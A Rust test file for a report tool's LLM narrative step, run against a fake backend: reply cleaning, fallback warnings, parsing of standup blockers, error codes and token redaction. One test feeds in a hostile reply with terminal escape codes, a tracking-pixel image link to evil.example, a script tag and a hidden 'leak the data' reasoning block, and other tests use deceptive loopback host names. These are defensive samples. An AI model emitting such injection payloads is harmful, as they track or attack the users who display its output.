//! `narrate` with a fake backend: reply handling and the fallback policy.

use narrative::{Lang, Limits, narrate};
use report_model::{Report, WarningCode};

use crate::{Fake, empty_daily, en, project, redactor, session, small_daily, standup};

fn run(backend: &Fake, report: &mut Report) -> Vec<report_model::Warning> {
    narrate(backend, report, redactor(), &Limits::default(), Lang::En)
}

#[test]
fn a_good_reply_becomes_the_narrative() {
    let backend = Fake::replying("  Most of the day went into the zsh reader.  \n");
    let mut report = small_daily();
    assert!(run(&backend, &mut report).is_empty());
    let narrative = report.narrative.as_ref().unwrap();
    assert_eq!(narrative.text, "Most of the day went into the zsh reader.");
    assert_eq!(narrative.model, "fake-model:1b");
    assert!(narrative.blockers.is_empty());
    assert_eq!(report.meta.llm_model.as_deref(), Some("fake-model:1b"));
    assert_eq!(backend.n_calls(), 1);
}

#[test]
fn a_hostile_reply_is_cleaned_and_checked() {
    let reply = "\u{1b}[2J\u{1b}]0;owned\u{7}<think>secret plan: leak the data</think>Work on standup. \
         ![pixel](https://evil.example/track.png?d=1) <script>alert(1)</script>\n\n\n\nThe zsh metafied bytes are decoded now.";
    let backend = Fake::replying(reply);
    let mut report = small_daily();
    let warnings = narrate(&backend, &mut report, redactor(), &Limits::default(), Lang::En);
    assert_eq!(warnings.len(), 1);
    assert_eq!(warnings[0].code(), WarningCode::LlmSentencesDropped);
    let text = &report.narrative.as_ref().unwrap().text;
    assert_eq!(text, "Work on standup. The zsh metafied bytes are decoded now.");
    for forbidden in
        ["\u{1b}", "\u{7}", "think", "secret plan", "evil.example", "![", "<script", "\n"]
    {
        assert!(!text.contains(forbidden), "{forbidden:?} in {text}");
    }
    let check = report.narrative_check.as_ref().unwrap();
    let dropped: Vec<(&str, &[String])> = check
        .sentences
        .iter()
        .filter(|sentence| !sentence.kept)
        .map(|sentence| (sentence.text.as_str(), sentence.reasons.as_slice()))
        .collect();
    assert_eq!(
        dropped,
        [("pixel alert(1)", &["identifier".to_owned(), "unsupported".to_owned()][..])]
    );
}

#[test]
fn a_whitespace_reply_fails_and_leaves_no_narrative() {
    let backend = Fake::replying(" \n\t \n");
    let mut report = small_daily();
    let warnings = run(&backend, &mut report);
    assert_eq!(warnings.len(), 1);
    assert_eq!(warnings[0].code(), WarningCode::LlmFailed);
    insta::assert_snapshot!(en(&warnings[0]), @"no narrative: the model's reply was empty after cleaning");
    assert_eq!(report.narrative, None);
    assert_eq!(report.meta.llm_model, None);
}

#[test]
fn a_reply_that_is_only_reasoning_fails() {
    let backend = Fake::replying("<think>hmm</think>\n\n");
    let mut report = small_daily();
    assert_eq!(run(&backend, &mut report)[0].code(), WarningCode::LlmFailed);
    assert_eq!(report.narrative, None);
}

#[test]
fn a_five_megabyte_repetition_is_rejected() {
    let backend = Fake::replying(&"word ".repeat(1_000_000));
    let mut report = small_daily();
    let warnings = run(&backend, &mut report);
    assert_eq!(warnings[0].code(), WarningCode::LlmRejected);
    insta::assert_snapshot!(en(&warnings[0]), @"repetition: the reply repeats itself; the report has no narrative");
    assert_eq!(report.narrative, None);
    assert_eq!(report.narrative_check.unwrap().reason.as_deref(), Some("repetition"));
}

#[test]
fn an_earlier_narrative_is_cleared_on_failure() {
    let mut report = small_daily();
    assert!(run(&Fake::replying("Metafy fix."), &mut report).is_empty());
    let warnings = run(&Fake::failing(llm_client::Error::EmptyReply), &mut report);
    assert_eq!(warnings[0].code(), WarningCode::LlmFailed);
    assert_eq!(report.narrative, None);
    assert_eq!(report.meta.llm_model, None);
}

#[test]
fn no_activity_means_no_call() {
    let backend = Fake::replying("anything");
    let mut report = empty_daily();
    assert!(run(&backend, &mut report).is_empty());
    assert_eq!(backend.n_calls(), 0);
    assert_eq!(report.narrative, None);
}

#[test]
fn standup_blockers_are_parsed_and_removed() {
    let backend = Fake::replying(
        "前営業日は standup で Render dates の作業をしました。本日は billing-api で flaky CI job を調査しています。\n\nBLOCKER: main の CI job が断続的に失敗しています [ids: session-9-28]\nBLOCKER: 根拠のない課題\nBLOCKER: 存在しない id の課題 [ids: deadbeef00]\n",
    );
    let mut report = standup(
        (vec![project("standup", Vec::new(), vec![session("Render dates", 3)])], Vec::new()),
        (
            vec![project(
                "billing-api",
                Vec::new(),
                vec![session("Investigate the flaky CI job", 9)],
            )],
            Vec::new(),
        ),
    );
    let warnings = narrate(&backend, &mut report, redactor(), &Limits::default(), Lang::Ja);
    assert_eq!(warnings.len(), 1);
    insta::assert_snapshot!(en(&warnings[0]), @"0 of 2 sentences of the narrative left out as not supported by the data; 2 of 3 possible blockers left out (no_evidence: 1, unknown_evidence: 1)");
    let narrative = report.narrative.unwrap();
    assert_eq!(
        narrative.text,
        "前営業日は standup で Render dates の作業をしました。本日は billing-api で flaky CI job を調査しています。"
    );
    assert_eq!(narrative.blockers, ["main の CI job が断続的に失敗しています"]);
    let (system, _) = backend.calls.lock().unwrap()[0].clone();
    assert_eq!(system, narrative::prompts::STANDUP_JA);
}

#[test]
fn client_errors_map_to_warning_codes() {
    use llm_client::Error as E;
    let cases = [
        (
            E::NonLoopback { host: "h".into(), address: "8.8.8.8".parse().unwrap() },
            WarningCode::LlmBlockedNonloopback,
        ),
        (E::AmbiguousHost { host: "2130706433".into() }, WarningCode::LlmBlockedNonloopback),
        (E::InvalidEndpoint { reason: "it has no host" }, WarningCode::LlmUnavailable),
        (E::HostName { host: "localhost.evil.example".into() }, WarningCode::LlmBlockedNonloopback),
        (E::Command { cause: "exited with status 1".into() }, WarningCode::LlmUnavailable),
        (E::Redirect { status: 302 }, WarningCode::LlmUnavailable),
        (E::Status { status: 500, excerpt: "boom".into() }, WarningCode::LlmUnavailable),
        (E::Timeout { which: "overall" }, WarningCode::LlmUnavailable),
        (E::Connection { cause: "refused".into() }, WarningCode::LlmUnavailable),
        (E::NoModels, WarningCode::LlmUnavailable),
        (E::TooLarge { limit: 1 }, WarningCode::LlmFailed),
        (E::MalformedReply { reason: "x" }, WarningCode::LlmFailed),
        (E::EmptyReply, WarningCode::LlmFailed),
    ];
    for (error, code) in cases {
        let mut report = small_daily();
        let warnings = run(&Fake::failing(error.clone()), &mut report);
        assert_eq!(warnings.len(), 1);
        assert_eq!(warnings[0].code(), code, "{error}");
        assert_eq!(report.narrative, None);
        assert_eq!(report.meta.llm_model, None);
    }
}

#[test]
fn a_model_error_is_a_warning_too() {
    let backend = Fake { model: Err(llm_client::Error::NoModels), ..Fake::replying("text") };
    let mut report = small_daily();
    let warnings = run(&backend, &mut report);
    assert_eq!(warnings[0].code(), WarningCode::LlmUnavailable);
    insta::assert_snapshot!(en(&warnings[0]), @"no narrative: LLM server unavailable: no model is configured and the server has none; pull or load a model first");
    assert_eq!(backend.n_calls(), 0);
}

#[test]
fn warning_messages_are_cleaned_and_redacted() {
    let excerpt = "bad token ghp_FAKEtokenFORtests0123456789abcdefXYZ \u{1b}[31m".to_owned();
    let backend = Fake::failing(llm_client::Error::Status { status: 401, excerpt });
    let mut report = small_daily();
    let warnings = run(&backend, &mut report);
    insta::assert_snapshot!(en(&warnings[0]), @"no narrative: LLM server unavailable: the server answered HTTP 401: bad token [REDACTED:github-pat] ");
}

/// Obviously fake, but shaped like a classic GitHub token.
const TOKEN: &str = "ghp_FAKEtokenFORtests0123456789abcdefXYZ";

#[test]
fn summary_blockers_and_model_id_are_redacted_on_the_way_out() {
    let reply = serde_json::json!({
        "summary": format!("Worked on render dates in standup. The token {TOKEN} was rotated in billing-api."),
        "blockers": [{"text": format!("billing-api still uses {TOKEN}"), "evidence": ["session-9-28"]}],
    })
    .to_string();
    let backend = Fake { model: Ok(format!("evil-model {TOKEN}")), ..Fake::replying(&reply) };
    let mut report = standup(
        (vec![project("standup", Vec::new(), vec![session("Render dates", 3)])], Vec::new()),
        (
            vec![project(
                "billing-api",
                Vec::new(),
                vec![session("Investigate the flaky CI job", 9)],
            )],
            Vec::new(),
        ),
    );
    narrate(&backend, &mut report, redactor(), &Limits::default(), Lang::En);
    let json = serde_json::to_string(&report).unwrap();
    assert!(!json.contains("FAKEtoken"), "{json}");
    assert!(report.meta.llm_model.as_deref().unwrap().contains("[REDACTED:github-pat]"));
    let check = report.narrative_check.unwrap();
    assert!(check.sentences.iter().any(|sentence| sentence.text.contains("[REDACTED:github-pat]")));
    assert!(check.blockers[0].text.contains("[REDACTED:github-pat]"));
}
